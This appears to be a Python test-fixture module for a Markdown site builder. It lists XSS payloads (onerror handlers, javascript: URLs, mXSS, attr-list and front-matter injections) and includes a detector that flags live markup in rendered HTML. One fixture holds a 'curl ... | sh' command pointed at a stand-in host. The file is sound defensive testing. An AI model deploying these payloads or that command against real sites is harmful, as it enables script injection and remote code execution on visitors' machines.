"""What a hostile contributor writes: the fragments every safety test is made of.

Each script payload sets ``window.__pwned``: a page where it stays undefined ran none of
them. Hosts under ``.example`` stand for a third party (no request may go there).
"""

from __future__ import annotations

import re

PWN = "window.__pwned=1"

# body fragments, by the trick they try (issue 14's list, and the classics)
BODY_ATTACKS: dict[str, str] = {
    "raw-img": f'<img src=x onerror="{PWN}">',
    # the code-masking tricks: each made a scanner of the source see code where
    # Python-Markdown produces live markup
    "escaped-backticks": f'\\` <img src="x" onerror="{PWN}"> `',
    "backtick-runs": f'``` a `` b\n\n<img src="x" onerror="{PWN}">\n\n`',
    "unclosed-tilde-fence": f'~~~\n\n<img src="x" onerror="{PWN}">',
    "fence-indented-one-space": f' ```\n\n<img src="x" onerror="{PWN}">\n\n ```',
    "comment-bang-close": f'<!-- --!><img src="x" onerror="{PWN}"> -->',
    "cdata": f"<![CDATA[ ><img src=x onerror={PWN}> ]]>",
    "backtick-in-attribute": f'<span title="`"><img src=x onerror={PWN}></span>\n\n'
    f'<b title="`">x</b><img src=x onerror="{PWN}">',
    "attr-list-paragraph": f'Paragraphe piégé\n{{: onfocus="{PWN}" autofocus tabindex="0" }}',
    "attr-list-image": f'![image](photo.png){{: onload="{PWN}" }}',
    "attr-list-link-href": f'[lien](page.md){{: href="javascript:{PWN}" }}',
    "attr-list-external-src": '![image](photo.png){: src="https://autre-hote.example/x.png" }',
    "attr-list-style-url": 'Texte\n{: style="background:url(https://autre-hote.example/x)" }',
    "attr-list-heading": f'## Titre piégé {{: onclick="{PWN}" }}',
    "ref-in-blockquote": f"> [citation][r1]\n>\n> [r1]: javascript:{PWN}",
    "ref-in-list-item": f"- [élément][r2]\n\n    [r2]: javascript:{PWN}",
    "entity-scheme": f'<a href="&#106;avascript:{PWN}">lien</a>',
    "mixed-case-scheme": f"[lien](JaVaScRiPt:{PWN})",
    "tab-in-scheme": f'<a href="java&#x09;script:{PWN}">lien</a>',
    "angle-link": f"[lien](<javascript:{PWN}>)",
    "data-url": "[lien](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "svg-onload": f'<svg onload="{PWN}"><rect/></svg>',
    "script-tag": f"<script>{PWN}</script>",
    "mxss-math": f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
    "details-toggle": f'<details open ontoggle="{PWN}"><summary>s</summary>x</details>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>{PWN}</script>"></iframe>',
    "object": f'<object data="javascript:{PWN}"></object>',
    "form": f'<form action="javascript:{PWN}"><button>Envoyer</button></form>',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">',
    "base": '<base href="https://autre-hote.example/">',
    "style-import": '<style>@import "https://autre-hote.example/x.css";</style>',
    "external-img": '<img src="https://autre-hote.example/pixel.png" alt="">',
    "clobber-config": '<a id="__config" href="#">x</a>',
    "theme-component": '<div data-md-component="announce">Annonce truquée</div>',
    "md-in-html": f'<div markdown="1" onclick="{PWN}">*texte*</div>',
    "clipboard": '<span data-clipboard-text="curl -s https://autre-hote.example/i.sh | sh">'
    "copiez la commande</span>",
    "theme-button": '<a class="md-button md-dialog" href="https://autre-hote.example/">OK</a>',
    # heading ids reach the table of contents, outside the sanitised content
    "toc-id-script": '<h2 id="x&quot;&gt;&lt;script&gt;window.__pwned=1&lt;/script&gt;" '
    'markdown="1">Section</h2>',
    "toc-id-attr-list": "## Suite {: id='q\"><meta http-equiv=refresh "
    'content=0;url=https://autre-hote.example/ x="<">\' }',
}

# one value for every front-matter text: it tries to leave <title>, an attribute, a table
# cell and Markdown at once
FRONT_MATTER_ATTACK = (
    f'x</title>"\'><img src=x onerror={PWN}>{{: onfocus="{PWN}" autofocus }}'
    f"<script>{PWN}</script>[lien](javascript:{PWN});=1+1"
)

_TAG_RE = re.compile(r"<([a-zA-Z][\w:-]*)((?:[^<>\"']|\"[^\"]*\"|'[^']*')*)>")
_ATTR_RE = re.compile(r"""([^\s"'<>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?""")
_SCRIPT_BLOCK_RE = re.compile(r"<script\b[^>]*>.*?</script>", re.DOTALL | re.IGNORECASE)
DANGEROUS_URL_RE = re.compile(r"^\s*(javascript|vbscript|data:text|file):", re.IGNORECASE)


def live_markup(page_html: str) -> list[str]:
    """What in ``page_html`` could run code or reach another host, as readable strings."""
    import html

    found = []
    text = _SCRIPT_BLOCK_RE.sub("", page_html)  # the theme's own scripts are checked apart
    for tag in _TAG_RE.finditer(text):
        name = tag.group(1).lower()
        if name in ("iframe", "object", "embed", "base", "math", "frame"):
            found.append(f"<{name}>")
        for attr in _ATTR_RE.finditer(tag.group(2)):
            key = attr.group(1).lower()
            value = html.unescape(next((v for v in attr.group(2, 3, 4) if v is not None), ""))
            compact = re.sub(r"[\x00-\x20]+", "", value)
            if key.startswith("on"):
                found.append(f"<{name} {key}>")
            elif key in ("href", "src", "action", "data", "formaction") and (
                DANGEROUS_URL_RE.match(compact)
            ):
                found.append(f"<{name} {key}={value[:30]}>")
            elif "autre-hote.example" in value and key in ("src", "style", "href", "data"):
                if not (name == "a" and key == "href"):  # a link may lead away, not load
                    found.append(f"<{name} {key}={value[:40]}>")
            elif name == "meta" and key == "http-equiv" and value.lower() == "refresh":
                found.append("<meta refresh>")
            elif key == "data-clipboard-text":
                found.append(f"<{name} {key}>")
    return found
